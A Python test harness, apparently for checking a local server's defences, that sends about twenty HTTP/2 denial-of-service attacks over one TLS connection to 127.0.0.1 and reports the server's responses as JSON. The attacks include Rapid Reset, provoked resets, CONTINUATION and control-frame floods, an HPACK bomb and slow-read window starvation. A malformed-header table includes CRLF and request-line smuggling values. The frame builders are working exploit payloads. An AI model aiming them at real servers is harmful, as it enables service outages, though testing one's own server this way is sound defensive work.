"""HTTP/2 abuse: one attack on one TLS connection, bounded, and what the server said to it as JSON."""

import argparse
import json
import socket
import ssl
import struct

import hpack
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, RstStreamFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
# Attacks are sent in pieces of this many frames, with a look at what came back in between.
PIECE = 100


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    def __init__(self, options):
        tls = ssl.create_default_context(cafile=options.ca)
        tls.set_alpn_protocols(["h2"])
        self.host = options.name
        self.sock = tls.wrap_socket(socket.create_connection(("127.0.0.1", options.port)), server_hostname=options.name)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.rest, self.stream = b"", -1
        self.seen = {"goaway": None, "resets": {}, "statuses": {}, "closed": False, "acks": 0, "data": 0, "sent": 0}

    def begin(self, settings=b""):
        self.sock.sendall(PREFACE + frame(SETTINGS, payload=settings))
        return self

    def head(self, *more, method="GET", path="/"):
        fields = [(":method", method), (":scheme", "https"), (":authority", self.host), (":path", path)]
        return self.encoder.encode(fields + list(more), huffman=False)

    def next(self):
        self.stream += 2
        return self.stream

    def request(self, *more, flags=END_STREAM, method="GET", path="/"):
        return frame(HEADERS, flags | END_HEADERS, self.next(), self.head(*more, method=method, path=path))

    def send(self, frames):
        """Sends all until the server closes; never blocks for long."""
        piece = []
        for one in frames:
            piece.append(one)
            if len(piece) == PIECE:
                if not self.flush(piece):
                    return
                piece = []
        self.flush(piece)

    def flush(self, piece):
        try:
            self.sock.settimeout(20)
            self.sock.sendall(b"".join(piece))
            self.seen["sent"] += len(piece)
            self.look(0.0)
        except OSError:
            # The last words may still lie in the receive buffer.
            self.look(0.0)
            self.seen["closed"] = True
        return not self.seen["closed"]

    def look(self, patience):
        """Reads what is there, waiting `patience` for the first byte."""
        self.sock.settimeout(patience or 0.000001)
        try:
            while True:
                got = self.sock.recv(1 << 16)
                if not got:
                    self.seen["closed"] = True
                    return
                self.take(got)
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.seen["closed"] = True

    def take(self, got):
        self.rest += got
        while len(self.rest) >= 9:
            one, length = Frame.parse_frame_header(memoryview(self.rest[:9]))
            if len(self.rest) < 9 + length:
                return
            one.parse_body(memoryview(self.rest[9 : 9 + length]))
            self.rest = self.rest[9 + length :]
            self.note(one, length)

    def note(self, one, length):
        if isinstance(one, GoAwayFrame):
            # The last word counts: a server may first announce that it will leave.
            self.seen["goaway"] = one.error_code
        elif isinstance(one, RstStreamFrame):
            self.seen["resets"][one.stream_id] = one.error_code
        elif isinstance(one, HeadersFrame):
            status = dict(self.decoder.decode(one.data, raw=True)).get(b":status", b"").decode()
            self.seen["statuses"].setdefault(one.stream_id, status)
        elif one.type == DATA:
            self.seen["data"] += length
        elif one.type in (SETTINGS, PING) and "ACK" in one.flags:
            self.seen["acks"] += 1

    def settle(self, done):
        """Reads until the server closed, or `done`, for as long as a busy machine may need."""
        for _ in range(150):
            if self.seen["closed"] or done():
                break
            self.look(0.1)
        return self.seen


def rapid_reset(c, count):
    c.begin().send(c.request() + frame(RST_STREAM, 0, c.stream, struct.pack(">I", 8)) for _ in range(count))


def provoked_resets(c, count):
    """MadeYouReset: each request is fine, and then broken so that the server resets it."""
    c.begin().send(c.request() + frame(WINDOW_UPDATE, 0, c.stream, bytes(4)) for _ in range(count))


def provoked_by_data(c, count):
    c.begin().send(c.request() + frame(DATA, 0, c.stream, b"late") for _ in range(count))


def provoked_by_overflow(c, count):
    largest = struct.pack(">I", (1 << 31) - 1)
    c.begin().send(c.request(path="/held") + frame(WINDOW_UPDATE, 0, c.stream, largest) for _ in range(count))


def provoked_by_length(c, count):
    """More data than the head promised."""
    c.begin().send(
        c.request(("content-length", "1"), flags=0, method="POST", path="/held") + frame(DATA, 0, c.stream, b"ab")
        for _ in range(count)
    )


def provoked_by_dependency(c, count):
    """A stream that depends on itself."""
    c.begin().send(
        c.request(path="/held") + frame(PRIORITY, 0, c.stream, struct.pack(">IB", c.stream, 0)) for _ in range(count)
    )


def continuation(c, count):
    c.begin().send([frame(HEADERS, END_STREAM, c.next(), c.head())])
    c.send(frame(CONTINUATION, 0, 1, c.encoder.encode([("x-%d" % n, "y" * 100)])) for n in range(count))


def empty_continuation(c, count):
    c.begin().send([frame(HEADERS, END_STREAM, c.next(), c.head())])
    c.send(frame(CONTINUATION, 0, 1) for _ in range(count))


def settings(c, count):
    c.begin().send(frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) for _ in range(count))


def ping(c, count):
    c.begin().send(frame(PING, payload=bytes(8)) for _ in range(count))


def empty_data(c, count):
    c.begin().send([c.request(flags=0, method="POST")])
    c.send(frame(DATA, 0, 1) for _ in range(count))


def padded_data(c, count):
    """Nothing but padding: it costs windows and carries nothing."""
    c.begin().send([c.request(flags=0, method="POST")])
    c.send(frame(DATA, PADDED, 1, b"\x01\0") for _ in range(count))


def priority(c, count):
    c.begin().send(frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, n % 256)) for n in range(count))


def window_update(c, count):
    """Updates without end, each of them allowed."""
    c.begin().send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) for _ in range(count))


def zero_window_update(c, count):
    c.begin().send(frame(WINDOW_UPDATE, 0, 0, bytes(4)) for _ in range(count))


def unknown(c, count):
    c.begin().send(frame(0x42, 0, 0, b"greased") for _ in range(count))


def hpack_bomb(c, count):
    """One large entry in the table, named thousands of times in one small head."""
    c.begin()
    bomb = c.head() + b"\x40" + b"\x03bom" + b"\x7f" + bytes([4000 - 127 & 127 | 128, 4000 - 127 >> 7]) + b"b" * 4000
    c.send([frame(HEADERS, END_STREAM | END_HEADERS, c.next(), bomb + b"\xbe" * min(count, 8000))])


def long_heads(c, count):
    """Heads beyond the announced limit, one after another."""
    fields = [("x-long-%d" % n, "y" * 1000) for n in range(100)]
    c.begin()
    for _ in range(count):
        block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", c.host), (":path", "/")] + fields, huffman=False)
        pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
        stream = c.next()
        frames = [frame(HEADERS, END_STREAM, stream, pieces[0])]
        frames += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
        frames += [frame(CONTINUATION, END_HEADERS, stream, pieces[-1])]
        if not c.flush(frames):
            return


def one_byte_windows(c, count):
    """Streams that take one byte of their answers, and no more."""
    c.begin(struct.pack(">HI", 4, 1))
    c.send(c.request(path="/large") for _ in range(min(count, 100)))


def small_untaken(c, count):
    """The same with answers that fit into any buffer."""
    c.begin(struct.pack(">HI", 4, 1))
    c.send(c.request() for _ in range(min(count, 100)))


def crumbs(c, count):
    """One byte of window at a time, often enough to look alive."""
    c.begin(struct.pack(">HI", 4, 1))
    c.send([c.request(path="/large")])
    while not c.seen["closed"] and c.seen["data"] < count and not c.seen["resets"]:
        c.look(0.1)
        c.flush([frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))])


ATTACKS = [
    rapid_reset, provoked_resets, provoked_by_data, provoked_by_overflow, provoked_by_length, provoked_by_dependency,
    continuation, empty_continuation, settings, ping, empty_data, padded_data, priority, window_update,
    zero_window_update, unknown, hpack_bomb, long_heads, one_byte_windows, small_untaken, crumbs,
]  # fmt: skip


def malformed(c):
    """Heads that are no requests, each on a connection of its own by the caller's choice of number."""
    good = [(":method", "GET"), (":scheme", "https"), (":authority", c.host), (":path", "/")]
    without = lambda name: [field for field in good if field[0] != name]
    return {
        "upper-case name": good + [("X-Upper", "1")],
        "no method": without(":method"),
        "no scheme": without(":scheme"),
        "no path": without(":path"),
        "empty path": without(":path") + [(":path", "")],
        "path without a slash": without(":path") + [(":path", "a")],
        "asterisk with GET": without(":path") + [(":path", "*")],
        "two methods": good + [(":method", "POST")],
        "two paths": good + [(":path", "/b")],
        "unknown pseudo-field": good + [(":color", "red")],
        "response pseudo-field": good + [(":status", "200")],
        "pseudo-field after a field": without(":path") + [("x", "1"), (":path", "/")],
        "protocol without connect": good + [(":protocol", "websocket")],
        "connection": good + [("connection", "close")],
        "keep-alive": good + [("keep-alive", "timeout=5")],
        "proxy-connection": good + [("proxy-connection", "keep-alive")],
        "transfer-encoding": good + [("transfer-encoding", "chunked")],
        "upgrade": good + [("upgrade", "websocket")],
        "te other than trailers": good + [("te", "gzip")],
        "te with more than trailers": good + [("te", "trailers, gzip")],
        "line feed in a value": good + [("x-a", "1\n2")],
        "carriage return in a value": good + [("x-a", "1\r\nx-b: 2")],
        "nul in a value": good + [("x-a", "1\x002")],
        "space before a value": good + [("x-a", " 1")],
        "space in a name": good + [("x a", "1")],
        "empty name": good + [("", "1")],
        "userinfo": without(":authority") + [(":authority", "user@" + c.host)],
        "space in the path": without(":path") + [(":path", "/ HTTP/1.1\r\nx: y")],
        "unknown scheme": without(":scheme") + [(":scheme", "ht!tp")],
        "plain connect": [(":method", "CONNECT"), (":authority", c.host + ":443")],
        "length that is no number": good + [("content-length", "+0")],
        "two lengths": good + [("content-length", "0"), ("content-length", "1")],
    }


def try_malformed(options):
    outcomes = {}
    for name in malformed(Connection(options)):
        c = Connection(options).begin()
        fields = malformed(c)[name]
        c.send([frame(HEADERS, END_STREAM | END_HEADERS, c.next(), c.encoder.encode(fields, huffman=False))])
        seen = c.settle(lambda: c.seen["resets"] or c.seen["statuses"] or c.seen["goaway"] is not None)
        outcomes[name] = [seen["resets"].get(1), seen["statuses"].get(1), seen["goaway"]]
        c.sock.close()
    return outcomes


def main():
    named = {attack.__name__: attack for attack in ATTACKS}
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=[*named, "malformed"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--name", required=True)
    parser.add_argument("--count", type=int, default=5000)
    options = parser.parse_args()
    if options.attack == "malformed":
        print(json.dumps(try_malformed(options)))
        return
    c = Connection(options)
    named[options.attack](c, options.count)
    seen = c.settle(lambda: c.seen["goaway"] not in (None, 0) or len(c.seen["resets"]) == c.stream // 2 + 1)
    print(json.dumps({**seen, "resets": len(seen["resets"]), "statuses": sorted(set(seen["statuses"].values()))}))


if __name__ == "__main__":
    main()
